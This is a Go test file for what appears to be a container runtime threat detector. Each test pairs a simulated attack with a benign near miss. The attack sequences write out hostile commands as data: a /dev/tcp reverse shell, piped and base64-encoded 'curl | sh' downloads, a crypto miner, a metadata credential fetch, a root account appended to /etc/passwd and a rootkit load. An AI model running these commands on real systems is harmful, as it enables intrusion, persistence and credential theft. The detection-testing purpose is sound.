package scorer

import (
	"fmt"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/vigilsec/vigil/scorer/finding"
	"github.com/vigilsec/vigil/scorer/intel"
	"github.com/vigilsec/vigil/scorer/rules"
	"github.com/vigilsec/vigil/trace"
)

// The default pack's tests: for every finding type, a realistic event
// sequence that must raise it and a near-miss benign sequence that must
// raise nothing at all. Events follow the collector's conventions (see
// collector/decode.go).

var base = time.Date(2026, 11, 23, 10, 0, 0, 0, time.UTC).UnixNano()

const (
	taskARN = "arn:aws:ecs:us-east-1:123456789012:task/prod/8c5f0d3e6a0b4f7e9d2c1b0a9f8e7d6c"
	ctrID   = "4f2a9c1d7e3b8a6f0c5d2e9b1a7f3c8d4e6b0a2f9c1d7e3b8a6f0c5d2e9b1a7f"
)

type seq struct {
	evs  []trace.Event
	t    int64
	next int32
}

func newSeq() *seq { return &seq{t: base, next: 100} }

// ev adds an event from the container of the "web" task.
func (s *seq) ev(e trace.Event) *seq {
	s.t += int64(time.Millisecond)
	e.Time = s.t
	e.Host = "ip-10-0-1-17"
	if e.ContainerID == "-" {
		e.ContainerID = ""
	} else {
		e.ContainerID, e.Runtime = ctrID, "docker"
		e.Image, e.ContainerName = "123456789012.dkr.ecr.us-east-1.amazonaws.com/web:1.4.2", "ecs-web-3-app-e8a1c0"
		e.Cluster, e.TaskARN, e.TaskFamily, e.TaskRevision = "prod", taskARN, "web", "3"
		e.ECSContainerName, e.LaunchType = "app", "EC2"
	}
	if e.ProcUUID == "" {
		e.ProcUUID = fmt.Sprintf("p%d", e.PID)
	}
	if e.PPID != 0 && e.ParentUUID == "" {
		e.ParentUUID = fmt.Sprintf("p%d", e.PPID)
	}
	if e.UID == 0 && e.EUID == 0 && e.Comm == "" {
		e.Comm = "x"
	}
	e.Workload = trace.WorkloadKey(&e)
	s.evs = append(s.evs, e)
	return s
}

// exec starts a process (pid, parent ppid) running exe with argv.
func (s *seq) exec(pid, ppid int32, exe string, argv ...string) *seq {
	comm := exe[strings.LastIndexByte(exe, '/')+1:]
	if len(comm) > 15 {
		comm = comm[:15]
	}
	if ppid != 0 {
		s.ev(trace.Event{Kind: trace.KindFork, PID: ppid, TargetPID: pid, Comm: "fork"})
	}
	return s.ev(trace.Event{Kind: trace.KindExec, PID: pid, PPID: ppid, Comm: comm, ExePath: exe, Path: exe, Argv: argv})
}

// app is the container's usual process tree: tini (pid 1) running a node
// web server (pid 7) that accepts connections.
func app() *seq {
	s := newSeq()
	s.exec(1, 0, "/sbin/tini", "/sbin/tini", "--", "node", "server.js")
	s.exec(7, 1, "/usr/local/bin/node", "node", "server.js")
	s.ev(trace.Event{Kind: trace.KindListen, PID: 7, PPID: 1, Comm: "node", NetFamily: 2, NetProto: 6, SrcPort: 8080})
	s.ev(trace.Event{Kind: trace.KindAccept, PID: 7, PPID: 1, Comm: "node", NetFamily: 2, NetProto: 6, SrcPort: 8080, DstAddr: "10.0.7.9", DstPort: 51234})
	return s
}

func testIntel() *intel.Set {
	s := intel.NewSet(intel.DefaultDGA())
	s.Parse([]byte("203.0.113.9\nbadc2.example\n"), "c2")
	s.Parse([]byte("198.51.100.0/24\n"), "mining")
	s.Parse([]byte("evil.example\n"), "malicious")
	s.Parse([]byte("odd.example\n"), "suspicious")
	s.Parse([]byte("192.0.2.50\n"), "tor")
	s.Parse([]byte(strings.Repeat("ab", 32)+"\n"), "malware")
	return s
}

func run(t *testing.T, evs []trace.Event) []*finding.Finding {
	t.Helper()
	set, err := rules.Load(rules.DefaultSources(), rules.Options{Intel: testIntel()})
	if err != nil {
		t.Fatal(err)
	}
	var got []*finding.Finding
	e, err := New(Config{AccountID: "123456789012", Region: "us-east-1"}, set, nil, SinkFunc(func(f *finding.Finding, update bool) {
		if !update {
			got = append(got, f)
		}
	}))
	if err != nil {
		t.Fatal(err)
	}
	for i := range evs {
		e.Process(&evs[i])
	}
	e.Flush()
	return got
}

func types(fs []*finding.Finding) []string {
	var out []string
	for _, f := range fs {
		out = append(out, f.Type+" ("+f.Service.Detection.RuleID+")")
	}
	sort.Strings(out)
	return out
}

const (
	oWrite = 1
	oCreat = 0x40
	oTrunc = 0x200
)

// packCase is, for one finding type, an event sequence that must raise it
// and a near-miss benign one that must raise nothing.
type packCase struct {
	typ            string
	attack, benign *seq
}

func defaultPackCases() []packCase {
	return []packCase{
		{"Execution:Runtime/NewBinaryExecuted",
			app().exec(20, 7, "/usr/bin/curl", "curl", "-so", "/tmp/kx", "http://127.0.0.1:8000/kx").
				ev(trace.Event{Kind: trace.KindOpen, PID: 20, PPID: 7, Path: "/tmp/kx", Flags: oWrite | oCreat | oTrunc, Ret: 3}).
				ev(trace.Event{Kind: trace.KindChmod, PID: 7, PPID: 1, Path: "/tmp/kx", Mode: 0o755}).
				exec(21, 7, "/tmp/kx", "/tmp/kx"),
			app().ev(trace.Event{Kind: trace.KindOpen, PID: 7, PPID: 1, Path: "/tmp/upload-1.json", Flags: oWrite | oCreat, Ret: 3}).
				exec(21, 7, "/usr/bin/convert", "convert", "/tmp/upload-1.json", "/tmp/out.png")},
		{"Execution:Runtime/NewLibraryLoaded",
			app().exec(22, 7, "/bin/sh", "sh", "-c", "cat > /tmp/libx.so").
				ev(trace.Event{Kind: trace.KindOpen, PID: 22, PPID: 7, Path: "/tmp/libx.so", Flags: oWrite | oCreat | oTrunc, Ret: 3}).
				ev(trace.Event{Kind: trace.KindExecMapping, PID: 7, PPID: 1, Comm: "node", Path: "/tmp/libx.so", Flags: 4}),
			app().ev(trace.Event{Kind: trace.KindOpen, PID: 7, PPID: 1, Comm: "node", Path: "/tmp/cache.bin", Flags: oWrite | oCreat, Ret: 3}).
				ev(trace.Event{Kind: trace.KindExecMapping, PID: 7, PPID: 1, Comm: "node", Path: "/usr/lib/x86_64-linux-gnu/libssl.so.3", Flags: 4})},
		{"Execution:Runtime/ReverseShell",
			app().exec(30, 7, "/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1").
				ev(trace.Event{Kind: trace.KindConnect, PID: 30, PPID: 7, NetFamily: 2, NetProto: 6, DstAddr: "127.0.0.1", DstPort: 4444}),
			newSeq().exec(1, 0, "/bin/sh", "/bin/sh", "/docker-entrypoint.sh").exec(5, 1, "/usr/bin/nc", "nc", "-z", "db", "5432").
				ev(trace.Event{Kind: trace.KindConnect, PID: 5, PPID: 1, NetFamily: 2, NetProto: 6, DstAddr: "10.0.3.4", DstPort: 5432})},
		// The dup2 spelling: a dropper connects, puts the socket on fds
		// 0-2 and execs sh in place. Neither the shell's command line nor
		// a connect of its own gives it away; its stdio does.
		{"Execution:Runtime/ReverseShell",
			app().exec(31, 7, "/tmp/.cache/upd", "upd").
				ev(trace.Event{Kind: trace.KindConnect, PID: 31, PPID: 7, Comm: "upd", NetFamily: 2, NetProto: 6, DstAddr: "127.0.0.1", DstPort: 4446}).
				ev(trace.Event{Kind: trace.KindExec, PID: 31, PPID: 7, Comm: "sh", ExePath: "/bin/busybox", Path: "/bin/sh", Argv: []string{"sh", "-i"},
					Flags: trace.ExecStdinSocket | trace.ExecStdoutSocket | trace.ExecStderrSocket | trace.ExecStdinInet | trace.ExecStdoutInet | trace.ExecStderrInet}),
			// Near misses: a worker's shell on AF_UNIX socketpairs (what
			// libuv gives node's children), a restore job reading a TCP
			// stream on stdin with its output in a file, and git-daemon's
			// upload-pack, which is not a shell, with the connection as
			// stdin and stdout.
			newSeq().exec(1, 0, "/app/worker", "/app/worker").
				ev(trace.Event{Kind: trace.KindExec, PID: 32, PPID: 1, Comm: "sh", ExePath: "/bin/dash", Path: "/bin/sh", Argv: []string{"/bin/sh", "-c", "convert in.png out.jpg"},
					Flags: trace.ExecStdinSocket | trace.ExecStdoutSocket | trace.ExecStderrSocket}).
				ev(trace.Event{Kind: trace.KindExec, PID: 33, PPID: 1, Comm: "sh", ExePath: "/bin/dash", Path: "/bin/sh", Argv: []string{"/bin/sh", "-c", "tar x -C /restore"},
					Flags: trace.ExecStdinSocket | trace.ExecStdinInet}).
				ev(trace.Event{Kind: trace.KindExec, PID: 34, PPID: 1, Comm: "git", ExePath: "/usr/lib/git-core/git", Path: "/usr/bin/git", Argv: []string{"git", "upload-pack", "--strict", "/srv/repo.git"},
					Flags: trace.ExecStdinSocket | trace.ExecStdoutSocket | trace.ExecStdinInet | trace.ExecStdoutInet})},
		// An interpreter under its versioned name (python3 links to
		// python3.11), stdin and stdout on the connection, stderr not.
		{"Execution:Runtime/ReverseShell",
			app().exec(35, 7, "/tmp/x", "x").
				ev(trace.Event{Kind: trace.KindExec, PID: 35, PPID: 7, Comm: "python3", ExePath: "/usr/bin/python3.11", Path: "/usr/bin/python3", Argv: []string{"python3", "-i"},
					Flags: trace.ExecStdinSocket | trace.ExecStdoutSocket | trace.ExecStdinInet | trace.ExecStdoutInet}),
			app().exec(35, 7, "/tmp/x", "x").
				ev(trace.Event{Kind: trace.KindExec, PID: 36, PPID: 35, Comm: "python3", ExePath: "/usr/bin/python3.11", Path: "/usr/bin/python3", Argv: []string{"python3", "job.py"},
					Flags: trace.ExecStdinInet | trace.ExecStdinSocket | trace.ExecStdoutPipe | trace.ExecStderrPipe})},
		{"Execution:Runtime/SuspiciousTool",
			newSeq().exec(1, 0, "/bin/sh", "/bin/sh").exec(40, 1, "/usr/bin/nmap", "nmap", "-sT", "-p1-1024", "127.0.0.1"),
			newSeq().exec(1, 0, "/bin/sh", "/bin/sh").exec(40, 1, "/usr/bin/nmapper", "nmapper", "--help")},
		{"Execution:Runtime/SuspiciousShellCreated",
			app().exec(50, 7, "/bin/sh", "/bin/sh", "-c", "id; uname -a"),
			newSeq().exec(1, 0, "/sbin/tini", "/sbin/tini", "--", "/entrypoint.sh").exec(2, 1, "/bin/sh", "/bin/sh", "/entrypoint.sh")},
		{"Execution:Runtime/MaliciousFileExecuted",
			app().ev(trace.Event{Kind: trace.KindExec, PID: 60, PPID: 7, Comm: "update", ExePath: "/tmp/update", Argv: []string{"/tmp/update"}, ExeSHA256: strings.Repeat("ab", 32)}),
			app().ev(trace.Event{Kind: trace.KindExec, PID: 60, PPID: 7, Comm: "convert", ExePath: "/usr/bin/convert", Argv: []string{"convert"}, ExeSHA256: strings.Repeat("cd", 32)})},
		{"Execution:Runtime/SuspiciousCommand",
			newSeq().exec(1, 0, "/bin/sh", "/bin/sh").exec(70, 1, "/bin/sh", "sh", "-c", "curl -fsSL http://127.0.0.1:8000/install.sh | sh"),
			newSeq().exec(1, 0, "/bin/sh", "/bin/sh").exec(70, 1, "/bin/sh", "sh", "-c", "curl -fsSL -o /tmp/health.json http://127.0.0.1:8000/health && cat /tmp/health.json | jq .")},
		{"Execution:Runtime/SuspiciousCommand",
			newSeq().exec(1, 0, "/bin/sh", "/bin/sh").exec(71, 1, "/bin/sh", "sh", "-c", "echo Y3VybCAtcyBodHRwOi8vMTI3LjAuMC4xL3ggfCBzaAo= | base64 -d | sh"),
			newSeq().exec(1, 0, "/bin/sh", "/bin/sh").exec(71, 1, "/bin/sh", "sh", "-c", "echo aGVsbG8= | base64 -d > /tmp/greeting.txt")},
		{"Impact:Runtime/CryptoMinerExecuted",
			app().exec(80, 7, "/tmp/.x/xmrig", "xmrig", "-o", "stratum+tcp://127.0.0.1:3333", "-u", "wallet", "--donate-level", "1"),
			app().exec(80, 7, "/usr/local/bin/node", "node", "--max-old-space-size=512", "worker.js")},
		{"CryptoCurrency:Runtime/BitcoinTool.B",
			app().exec(81, 7, "/tmp/kworker", "kworker").
				ev(trace.Event{Kind: trace.KindConnect, PID: 81, PPID: 7, NetFamily: 2, NetProto: 6, DstAddr: "127.0.0.1", DstPort: 3333}),
			app().ev(trace.Event{Kind: trace.KindConnect, PID: 7, PPID: 1, Comm: "node", NetFamily: 2, NetProto: 6, DstAddr: "10.0.3.4", DstPort: 443})},
		{"CryptoCurrency:Runtime/BitcoinTool.B!DNS",
			app().ev(trace.Event{Kind: trace.KindDNS, PID: 7, PPID: 1, Comm: "node", DNSName: "xmr-eu1.nanopool.org", DNSType: 1}),
			app().ev(trace.Event{Kind: trace.KindDNS, PID: 7, PPID: 1, Comm: "node", DNSName: "notnanopool.org", DNSType: 1})},
		{"Impact:Runtime/MaliciousDomainRequest.Reputation",
			app().ev(trace.Event{Kind: trace.KindDNS, PID: 7, PPID: 1, Comm: "node", DNSName: "cdn.evil.example", DNSType: 1}),
			app().ev(trace.Event{Kind: trace.KindDNS, PID: 7, PPID: 1, Comm: "node", DNSName: "devil.example", DNSType: 1})},
		{"Impact:Runtime/SuspiciousDomainRequest.Reputation",
			app().ev(trace.Event{Kind: trace.KindDNS, PID: 7, PPID: 1, Comm: "node", DNSName: "odd.example", DNSType: 28}),
			app().ev(trace.Event{Kind: trace.KindDNS, PID: 7, PPID: 1, Comm: "node", DNSName: "even.example", DNSType: 28})},
		{"Backdoor:Runtime/C&CActivity.B",
			app().ev(trace.Event{Kind: trace.KindConnect, PID: 7, PPID: 1, Comm: "node", NetFamily: 2, NetProto: 6, DstAddr: "203.0.113.9", DstPort: 443}),
			app().ev(trace.Event{Kind: trace.KindConnect, PID: 7, PPID: 1, Comm: "node", NetFamily: 2, NetProto: 6, DstAddr: "203.0.113.10", DstPort: 443})},
		{"Backdoor:Runtime/C&CActivity.B!DNS",
			app().ev(trace.Event{Kind: trace.KindDNS, PID: 7, PPID: 1, Comm: "node", DNSName: "badc2.example.", DNSType: 1}),
			app().ev(trace.Event{Kind: trace.KindDNS, PID: 7, PPID: 1, Comm: "node", DNSName: "badc2.example.org", DNSType: 1})},
		{"DefenseEvasion:Runtime/FilelessExecution",
			app().ev(trace.Event{Kind: trace.KindMemfd, PID: 7, PPID: 1, Comm: "node", Path: "payload"}).
				ev(trace.Event{Kind: trace.KindExec, PID: 90, PPID: 7, Comm: "3", ExePath: "/memfd:payload (deleted)", Path: "/proc/self/fd/3", Argv: []string{"[kworker]"}}),
			app().ev(trace.Event{Kind: trace.KindMemfd, PID: 7, PPID: 1, Comm: "node", Path: "v8-jit"}).
				exec(90, 7, "/usr/bin/python3", "python3", "job.py").
				ev(trace.Event{Kind: trace.KindExec, PID: 91, Comm: "runc:[2:INIT]", ExePath: "/memfd:runc_cloned:/proc/self/exe (deleted)",
					Path: "/proc/self/exe", Argv: []string{"runc", "init"}}).
				ev(trace.Event{Kind: trace.KindExec, PID: 93, ContainerID: "-", Comm: "runc", ExePath: "/",
					Path: "/proc/self/fd/7", Argv: []string{"runc", "init"}})},
		{"DefenseEvasion:Runtime/ProcessInjection.Ptrace",
			app().exec(91, 7, "/tmp/inject", "inject", "7").
				ev(trace.Event{Kind: trace.KindPtrace, PID: 91, PPID: 7, Flags: 16, TargetPID: 7}).
				ev(trace.Event{Kind: trace.KindPtrace, PID: 91, PPID: 7, Flags: 5, TargetPID: 7}),
			app().exec(91, 7, "/usr/bin/gdb", "gdb", "-p", "7").
				ev(trace.Event{Kind: trace.KindPtrace, PID: 91, PPID: 7, Flags: 16, TargetPID: 7}).
				ev(trace.Event{Kind: trace.KindPtrace, PID: 91, PPID: 7, Flags: 2, TargetPID: 7})},
		{"DefenseEvasion:Runtime/ProcessInjection.Proc",
			app().exec(92, 7, "/usr/bin/python3", "python3", "-c", "open('/proc/7/mem','wb')").
				ev(trace.Event{Kind: trace.KindPtrace, PID: 92, PPID: 7, Flags: 5, TargetPID: 7, Path: "/proc/7/mem"}),
			app().exec(92, 7, "/usr/bin/python3", "python3", "-c", "open('/proc/7/stat')").
				ev(trace.Event{Kind: trace.KindOpen, PID: 92, PPID: 7, Path: "/proc/7/stat", Ret: 3})},
		{"DefenseEvasion:Runtime/PtraceAntiDebugging",
			app().exec(93, 7, "/tmp/agent", "agent").ev(trace.Event{Kind: trace.KindPtrace, PID: 93, PPID: 7, Flags: 0}),
			app().exec(93, 7, "/usr/bin/strace", "strace", "-f", "ls").ev(trace.Event{Kind: trace.KindPtrace, PID: 93, PPID: 7, Flags: 0})},
		{"DefenseEvasion:Runtime/KernelModuleLoaded",
			app().exec(94, 7, "/sbin/insmod", "insmod", "/tmp/diamorphine.ko").
				ev(trace.Event{Kind: trace.KindModuleLoad, PID: 94, PPID: 7, Path: "/tmp/diamorphine.ko", Module: "diamorphine"}),
			app().exec(94, 7, "/sbin/lsmod", "lsmod")},
		{"DefenseEvasion:Runtime/SuspiciousCommand",
			app().exec(95, 7, "/bin/rm", "rm", "-f", "/root/.bash_history"),
			app().exec(95, 7, "/bin/rm", "rm", "-f", "/tmp/cache-1.json")},
		{"Persistence:Runtime/SuspiciousCommand",
			app().exec(96, 7, "/usr/bin/crontab", "crontab", "/tmp/c"),
			app().exec(96, 7, "/usr/bin/crontab", "crontab", "-l")},
		{"Discovery:Runtime/SuspiciousCommand",
			app().exec(97, 7, "/usr/bin/find", "find", "/", "-perm", "-4000", "-type", "f"),
			app().exec(97, 7, "/usr/bin/find", "find", "/app/logs", "-name", "*.log", "-mtime", "+7")},
		{"Discovery:Runtime/SuspiciousCommand",
			app().exec(106, 7, "/usr/bin/curl", "curl", "-s", "http://169.254.169.254/latest/meta-data/iam/security-credentials/").
				ev(trace.Event{Kind: trace.KindConnect, PID: 106, PPID: 7, NetFamily: 2, DstAddr: "169.254.169.254", DstPort: 80, Ret: -101}),
			app().ev(trace.Event{Kind: trace.KindConnect, PID: 7, PPID: 1, Comm: "node", NetFamily: 2, DstAddr: "169.254.170.2", DstPort: 80})},
		{"PrivilegeEscalation:Runtime/CGroupsReleaseAgentModified",
			app().exec(98, 7, "/bin/sh", "sh", "-c", "echo /cmd > /tmp/cgrp/release_agent").
				ev(trace.Event{Kind: trace.KindOpen, PID: 98, PPID: 7, Path: "/tmp/cgrp/release_agent", Flags: oWrite | oCreat | oTrunc, Ret: 3}),
			newSeq().exec(1, 0, "/app/server", "/app/server").
				ev(trace.Event{Kind: trace.KindOpen, PID: 1, Path: "/sys/fs/cgroup/memory/memory.limit_in_bytes", Ret: 3})},
		{"PrivilegeEscalation:Runtime/ContainerMountsHostDirectory",
			newSeq().exec(1, 0, "/bin/sh", "/bin/sh").exec(99, 1, "/bin/mount", "mount", "/dev/sda1", "/mnt").
				ev(trace.Event{Kind: trace.KindMount, PID: 99, PPID: 1, Path: "/mnt", NewPath: "/dev/sda1", Module: "ext4"}),
			newSeq().exec(1, 0, "/bin/sh", "/bin/sh").exec(99, 1, "/bin/mount", "mount", "-t", "tmpfs", "tmpfs", "/scratch").
				ev(trace.Event{Kind: trace.KindMount, PID: 99, PPID: 1, Path: "/scratch", NewPath: "tmpfs", Module: "tmpfs"})},
		{"PrivilegeEscalation:Runtime/DockerSocketAccessed",
			app().exec(100, 7, "/usr/bin/curl", "curl", "--unix-socket", "/var/run/docker.sock", "http://localhost/containers/json").
				ev(trace.Event{Kind: trace.KindConnect, PID: 100, PPID: 7, NetFamily: 1, DstAddr: "/var/run/docker.sock"}),
			app().ev(trace.Event{Kind: trace.KindConnect, PID: 7, PPID: 1, Comm: "node", NetFamily: 1, DstAddr: "/var/run/app/metrics.sock"})},
		{"PrivilegeEscalation:Runtime/ElevationToRoot",
			app().ev(trace.Event{Kind: trace.KindExec, PID: 101, PPID: 7, Comm: "exploit", ExePath: "/tmp/exploit", Argv: []string{"./exploit"}, UID: 1000, EUID: 1000}).
				ev(trace.Event{Kind: trace.KindOpen, PID: 101, PPID: 7, Comm: "exploit", Path: "/etc/hosts", UID: 1000, EUID: 1000, Ret: 3}).
				ev(trace.Event{Kind: trace.KindCred, PID: 101, PPID: 7, Comm: "exploit", UID: 0, EUID: 0, Syscall: 105}),
			app().ev(trace.Event{Kind: trace.KindExec, PID: 101, PPID: 7, Comm: "sudo", ExePath: "/usr/bin/sudo", Argv: []string{"sudo", "-n", "true"}, UID: 1000, EUID: 0}).
				ev(trace.Event{Kind: trace.KindCred, PID: 101, PPID: 7, Comm: "sudo", UID: 0, EUID: 0, Syscall: 105})},
		{"PrivilegeEscalation:Runtime/RuncContainerEscape",
			app().exec(102, 7, "/tmp/escape", "escape").
				ev(trace.Event{Kind: trace.KindOpen, PID: 102, PPID: 7, Path: "/proc/1/exe", Flags: oWrite | oTrunc, Ret: 4}),
			app().exec(102, 7, "/bin/ls", "ls", "-l", "/proc/1/exe").
				ev(trace.Event{Kind: trace.KindOpen, PID: 102, PPID: 7, Path: "/proc/1/exe", Flags: 0, Ret: 3})},
		{"PrivilegeEscalation:Runtime/UserfaultfdUsage",
			app().exec(103, 7, "/tmp/poc", "poc").ev(trace.Event{Kind: trace.KindUserfaultfd, PID: 103, PPID: 7, Ret: 5}),
			app().exec(103, 7, "/tmp/poc", "poc").ev(trace.Event{Kind: trace.KindUserfaultfd, PID: 103, PPID: 7, Ret: -1})},
		{"PrivilegeEscalation:Runtime/SensitiveFileModified",
			app().exec(104, 7, "/bin/sh", "sh", "-c", "echo 'r00t::0:0::/root:/bin/sh' >> /etc/passwd").
				ev(trace.Event{Kind: trace.KindOpen, PID: 104, PPID: 7, Path: "/etc/passwd", Flags: oWrite | 0x400, Ret: 3}),
			app().exec(104, 7, "/usr/sbin/useradd", "useradd", "-m", "svc").
				ev(trace.Event{Kind: trace.KindOpen, PID: 104, PPID: 7, Path: "/etc/passwd+", Flags: oWrite | oCreat, Ret: 3}).
				ev(trace.Event{Kind: trace.KindRename, PID: 104, PPID: 7, Path: "/etc/passwd+", NewPath: "/etc/passwd"})},
		{"UnauthorizedAccess:Runtime/TorClient",
			app().exec(105, 7, "/usr/bin/tor", "tor", "--RunAsDaemon", "0"),
			app().exec(105, 7, "/usr/bin/torque", "torque")},
		{"UnauthorizedAccess:Runtime/MetadataDNSRebind",
			app().ev(trace.Event{Kind: trace.KindDNS, PID: 7, PPID: 1, Comm: "node", DNSName: "a9fe.1a2b.rebind.attacker.example", DNSType: 1, DNSAnswers: []string{"169.254.169.254"}}),
			app().ev(trace.Event{Kind: trace.KindDNS, PID: 7, PPID: 1, Comm: "node", DNSName: "instance-data.ec2.internal", DNSType: 1, DNSAnswers: []string{"169.254.169.254"}})},
		{"Trojan:Runtime/DGADomainRequest.C!DNS",
			app().ev(trace.Event{Kind: trace.KindDNS, PID: 7, PPID: 1, Comm: "node", DNSName: "xjq3kz9vbw0pmt.com", DNSType: 1}),
			app().ev(trace.Event{Kind: trace.KindDNS, PID: 7, PPID: 1, Comm: "node", DNSName: "api.greenfieldmarket.com", DNSType: 1})},
	}
}

func TestDefaultPack(t *testing.T) {
	cases := defaultPackCases()
	set, _ := rules.Load(rules.DefaultSources(), rules.Options{})
	fired := map[string]bool{}
	for _, c := range cases {
		t.Run(c.typ, func(t *testing.T) {
			got := run(t, c.attack.evs)
			var hit *finding.Finding
			for _, f := range got {
				if f.Type == c.typ {
					hit = f
					fired[f.Service.Detection.RuleID] = true
				}
			}
			if hit == nil {
				t.Fatalf("attack raised %v, not %s", types(got), c.typ)
			}
			if hit.Resource.EcsClusterDetails == nil || hit.Resource.EcsClusterDetails.TaskDetails.Arn != taskARN ||
				hit.Resource.ContainerDetails == nil || hit.Resource.ContainerDetails.ID != ctrID {
				t.Errorf("finding lacks the ECS task and container: %+v", hit.Resource)
			}
			if hit.Service.RuntimeDetails.Process == nil || hit.Service.RuntimeDetails.Process.Pid == 0 {
				t.Errorf("finding lacks the process")
			}
			if benign := run(t, c.benign.evs); len(benign) > 0 {
				t.Errorf("near-miss benign sequence raised %v", types(benign))
			}
		})
	}
	for _, r := range set.Rules() {
		if !fired[r.ID] {
			t.Errorf("rule %s (%s) fired in no attack sequence: give it a case", r.ID, r.Type)
		}
	}
}

// TestLineageInFindings checks that a finding names the acting process's
// ancestors.
func TestLineageInFindings(t *testing.T) {
	got := run(t, app().exec(50, 7, "/bin/sh", "/bin/sh", "-c", "id").evs)
	if len(got) != 1 {
		t.Fatalf("got %v", types(got))
	}
	l := got[0].Service.RuntimeDetails.Process.Lineage
	if len(l) != 2 || l[0].ExecutablePath != "/usr/local/bin/node" || l[1].ExecutablePath != "/sbin/tini" {
		t.Fatalf("lineage %+v", l)
	}
}

// TestDefaultPackCoversGuardDutyTypes lists the GuardDuty Runtime Monitoring
// types Vigil promises to observe; each needs an enabled default rule.
func TestDefaultPackCoversGuardDutyTypes(t *testing.T) {
	want := []string{
		"Execution:Runtime/NewBinaryExecuted", "Execution:Runtime/ReverseShell", "Execution:Runtime/SuspiciousTool",
		"Execution:Runtime/SuspiciousShellCreated", "Execution:Runtime/MaliciousFileExecuted", "Execution:Runtime/SuspiciousCommand",
		"CryptoCurrency:Runtime/BitcoinTool.B", "CryptoCurrency:Runtime/BitcoinTool.B!DNS",
		"Impact:Runtime/CryptoMinerExecuted", "Impact:Runtime/MaliciousDomainRequest.Reputation",
		"Impact:Runtime/SuspiciousDomainRequest.Reputation",
		"Backdoor:Runtime/C&CActivity.B", "Backdoor:Runtime/C&CActivity.B!DNS",
		"DefenseEvasion:Runtime/FilelessExecution", "DefenseEvasion:Runtime/ProcessInjection.Ptrace",
		"DefenseEvasion:Runtime/ProcessInjection.Proc", "DefenseEvasion:Runtime/PtraceAntiDebugging",
		"DefenseEvasion:Runtime/KernelModuleLoaded", "DefenseEvasion:Runtime/SuspiciousCommand",
		"Persistence:Runtime/SuspiciousCommand",
		"PrivilegeEscalation:Runtime/CGroupsReleaseAgentModified", "PrivilegeEscalation:Runtime/ContainerMountsHostDirectory",
		"PrivilegeEscalation:Runtime/DockerSocketAccessed", "PrivilegeEscalation:Runtime/ElevationToRoot",
		"PrivilegeEscalation:Runtime/RuncContainerEscape", "PrivilegeEscalation:Runtime/UserfaultfdUsage",
		"PrivilegeEscalation:Runtime/SensitiveFileModified",
		"Discovery:Runtime/SuspiciousCommand",
		"UnauthorizedAccess:Runtime/TorClient", "UnauthorizedAccess:Runtime/MetadataDNSRebind",
		"Trojan:Runtime/DGADomainRequest.C!DNS",
	}
	set, err := rules.Load(rules.DefaultSources(), rules.Options{})
	if err != nil {
		t.Fatal(err)
	}
	have := map[string]bool{}
	for _, r := range set.Rules() {
		if r.Enabled {
			have[r.Type] = true
		}
	}
	for _, w := range want {
		if !have[w] {
			t.Errorf("no enabled default rule raises %s", w)
		}
	}
}
